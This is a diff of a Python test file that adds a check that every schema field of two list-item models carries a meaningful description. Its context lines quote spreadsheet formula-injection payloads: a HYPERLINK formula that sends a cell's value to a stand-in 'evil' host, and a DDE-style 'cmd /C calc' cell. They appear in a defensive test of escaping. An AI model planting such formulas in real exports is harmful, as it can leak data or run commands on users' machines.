@@ -561,3 +561,19 @@ def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text():
         '"\'=HYPERLINK(""http://evil/?""&A1,""click"")",0.5000,high,-12.50,1.00,,\'+x,'
         "'@SUM(1+1)*cmd|' /C calc'!A0,-5,UK"
     )
+
+
+def test_every_field_of_a_list_item_says_what_it_means():
+    """In /docs.json the at-risk item's probability, expected_spend and value_at_risk had empty descriptions,
+    and expected_spend means another thing in each list: every field says what it is, the money fields
+    the currency, and the two expected_spend which spend they are."""
+    from serving.schemas import AtRiskItem, TopItem
+
+    at_risk, top = (item.model_json_schema()["properties"] for item in (AtRiskItem, TopItem))
+    for fields_ in (at_risk, top):
+        assert all(field.get("description") for field in fields_.values()), fields_
+    for money in (at_risk["expected_spend"], at_risk["value_at_risk"], top["expected_spend"], top["expected_value"]):
+        assert "in the source data's currency" in money["description"]
+    assert "if they stayed" in at_risk["expected_spend"]["description"]
+    assert "given that they buy" in top["expected_spend"]["description"]
+    assert "horizon" in at_risk["probability"]["description"] and "horizon" in top["probability"]["description"]
